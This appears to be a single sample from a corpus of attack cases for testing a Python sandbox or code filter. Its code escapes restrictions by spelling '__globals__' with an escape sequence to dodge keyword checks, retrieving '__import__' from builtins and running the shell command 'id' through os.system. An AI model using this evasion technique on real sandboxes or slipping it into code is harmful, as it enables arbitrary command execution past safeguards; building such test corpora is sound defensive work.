# corpus: attack class=internals form=targeted
# '\x5f_globals__' spells __globals__ with an escape.
def helper():
    pass


def main():
    scope = getattr(helper, "\x5f_globals__")
    builtins = scope["__builtins__"]
    importer = builtins["__import__"] if isinstance(builtins, dict) else builtins.__import__
    return {"status": importer("os").system("id")}
